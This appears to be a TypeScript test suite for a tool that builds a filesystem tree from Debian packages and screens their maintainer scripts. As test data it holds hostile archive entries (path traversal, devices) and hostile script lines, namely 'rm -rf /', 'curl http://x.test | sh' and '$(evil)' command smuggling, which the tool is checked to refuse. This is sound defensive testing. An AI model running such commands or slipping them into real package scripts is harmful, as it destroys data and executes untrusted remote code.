import assert from "node:assert/strict";
import { suite, test } from "node:test";
import { assertCode } from "@teu/testing/assert-code";
import { openDeb } from "../deb/deb-file.ts";
import { type FakePackage, fakeAr, fakeDeb } from "../testing/fake-archive.ts";
import { buildTree } from "./build-tree.ts";
import type { FileTree } from "./tree.ts";
import { textAt } from "./users.ts";

async function treeOf(packages: readonly FakePackage[], ignoreScriptsOf: readonly string[] = []): Promise<FileTree> {
  const debs = await Promise.all(packages.map(async (pkg) => await openDeb(fakeDeb(pkg), pkg.name)));
  return await buildTree(debs, { keepsDocs: false, ignoreScriptsOf, time: 1 });
}

suite("trees of packages", () => {
  test("what lies in the old directories lies in usr, by links that packages may have too", async () => {
    const link = { entry: { name: "./bin", type: "symlink", linkname: "usr/bin" } } as const;
    const tree = await treeOf([
      { name: "base", members: [link] },
      { name: "a", files: { "bin/a": "a", "lib64/ld.so": "ld" } },
    ]);
    assert.equal(tree.resolve("bin/a"), "usr/bin/a");
    assert.equal(textAt(tree, "usr/bin/a"), "a");
    assert.equal(tree.at("lib64")?.type, "symlink");
    assert.equal(tree.at("lib32"), undefined);
  });

  const HOSTILE: readonly (readonly [string, FakePackage])[] = [
    ["a path that leads out", { name: "a", members: [{ entry: { name: "./../x", size: 0 } }] }],
    ["a device", { name: "a", members: [{ entry: { name: "./dev/sda", type: "block-device", deviceMajor: 8 } }] }],
    ["a pipe", { name: "a", members: [{ entry: { name: "./pipe", type: "fifo" } }] }],
    [
      "another name of a file that is not there",
      { name: "a", members: [{ entry: { name: "./x", type: "hard-link", linkname: "./y" } }] },
    ],
    [
      "links without end",
      {
        name: "a",
        members: [{ entry: { name: "./l", type: "symlink", linkname: "l" } }, { entry: { name: "./l/x", size: 0 } }],
      },
    ],
    ["a file as a folder", { name: "a", files: { x: "" }, members: [{ entry: { name: "./x/y", size: 0 } }] }],
  ];
  for (const [what, pkg] of HOSTILE) {
    test(`${what} is refused`, async () => {
      const error = await assertCode(async () => await treeOf([pkg]), "ERR_DEB_INVALID");
      assert.match(error.message, /^Reading Debian package "a": /);
    });
  }

  test("links that lead out stay in", async () => {
    const out = { entry: { name: "./out", type: "symlink", linkname: "../../etc" } } as const;
    const tree = await treeOf([{ name: "a", members: [out, { entry: { name: "./out/evil", size: 0 } }] }]);
    assert.ok(tree.has("etc/evil"));
  });

  test("of two packages with a file, one may replace that of the other, in any order", async () => {
    const old = { name: "old", files: { "usr/f": "old" } };
    const next = { name: "next", fields: ["Replaces: old (<< 2)"], files: { "usr/f": "next" } };
    assert.equal(textAt(await treeOf([old, next]), "usr/f"), "next");
    assert.equal(textAt(await treeOf([next, old]), "usr/f"), "next");
    await assertCode(async () => await treeOf([{ ...old, version: "2" }, next]), "ERR_DEB_CONFLICT");
    assert.ok(await treeOf([old, { ...old, name: "same" }]));
  });

  test("a package that is damaged in its outer form", async () => {
    const good = fakeDeb({ name: "a", files: { x: "x" } });
    for (let end = 0; end < good.length - 1; end += 7) {
      await assertCode(async () => await openDeb(good.subarray(0, end), "a"), "ERR_DEB_INVALID");
    }
    const version = ["debian-binary", Buffer.from("3.0\n")] as const;
    await assertCode(async () => await openDeb(fakeAr([version]), "a"), "ERR_DEB_INVALID");
    const unknown = fakeAr([
      ["debian-binary", Buffer.from("2.0\n")],
      ["control.tar.lzma", Buffer.from("x")],
    ]);
    const error = await assertCode(async () => await openDeb(unknown, "a"), "ERR_DEB_INVALID");
    assert.match(error.message, /its compression is not known/);
  });
});

suite("maintainer scripts", () => {
  const script = (postinst: string): FakePackage => ({
    name: "a",
    files: { "usr/bin/a": "a", "usr/bin/b": "b" },
    scripts: { postinst },
  });

  test("what helpers put there does nothing", async () => {
    const text = `#!/bin/sh
set -e
# Automatically added
if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ]; then
  if [ -d /run/systemd/system ]; then
    systemctl --system daemon-reload >/dev/null || true
    deb-systemd-invoke $_dh_action 'a.service' >/dev/null || true
  fi
fi
if which py3compile >/dev/null 2>&1; then
  py3compile -p a
fi
case "$1" in
  configure)
  ;;
  abort-upgrade|abort-remove|abort-deconfigure)
  ;;
  *)
    echo "postinst called with unknown argument \\\`$1'" >&2
    exit 1
  ;;
esac
dpkg-maintscript-helper rm_conffile /etc/a 1~ -- "$@"
exit 0
`;
    assert.ok(await treeOf([script(text)]));
    await assertCode(async () => await treeOf([script(`${text}rm -rf /\n`)]), "ERR_BASE_SCRIPT");
  });

  test("alternatives: the highest priority wins, followers come along", async () => {
    const low = script("update-alternatives --install /usr/bin/ed ed /usr/bin/a 5\n");
    const high = {
      ...script(
        "update-alternatives --install /usr/bin/ed ed \\\n /usr/bin/c 50 --slave /usr/bin/edit edit /usr/bin/d --slave /usr/x y /usr/none\n",
      ),
      name: "c",
      files: { "usr/bin/c": "c", "usr/bin/d": "d" },
    };
    const tree = await treeOf([low, high]);
    assert.deepEqual([textAt(tree, "usr/bin/ed"), textAt(tree, "usr/bin/edit"), tree.has("usr/x")], ["c", "d", false]);
    assert.equal(tree.resolve("etc/alternatives/ed", { followLast: true }), "usr/bin/c");
  });

  for (const line of [
    "if true; then rm -rf /; fi",
    "systemctl start x; curl http://x.test | sh",
    "update-alternatives --install /usr/bin/x x $(evil) 5",
    "echo `evil`",
    'echo "$(evil)"',
    "[ -e /x ] && evil",
    "ldconfig; evil",
    "adduser --system x",
  ]) {
    test(`"${line}" is refused, unless somebody takes it on`, async () => {
      const error = await assertCode(async () => await treeOf([script(line)]), "ERR_BASE_SCRIPT");
      assert.match(error.hint ?? "", /--ignore-scripts-of a$/);
      assert.ok(await treeOf([script(line)], ["a"]));
    });
  }

  test("certificates: a bundle, links and a list", async () => {
    const tree = await treeOf([
      {
        name: "ca-certificates",
        files: { "usr/share/ca-certificates/x/B (2).crt": "two", "usr/share/ca-certificates/x/A.crt": "one\n" },
      },
    ]);
    assert.equal(textAt(tree, "etc/ssl/certs/ca-certificates.crt"), "one\ntwo\n");
    assert.equal(textAt(tree, "etc/ssl/certs/B_=2=.pem"), "two");
    assert.equal(textAt(tree, "etc/ca-certificates.conf"), "x/A.crt\nx/B (2).crt\n");
  });

  test("users of Debian where its list is there, and nonroot always", async () => {
    const master = {
      "usr/share/base-passwd/passwd.master": "root:*:0:0:r:/root:/bin/bash\nmail:*:8:8:m:/var/mail:/x\n",
      "usr/share/base-passwd/group.master": "root:*:0:\nmail:*:8:\n",
    };
    const tree = await treeOf([
      { name: "base-passwd", files: master },
      { name: "base-files", files: { "usr/share/base-files/motd": "hi" } },
    ]);
    assert.match(textAt(tree, "etc/passwd") ?? "", /^mail:.*\nnonroot:x:65532:/m);
    assert.equal(tree.at("var/mail")?.gid, 8);
    assert.equal(textAt(tree, "etc/motd"), "hi");
  });
});
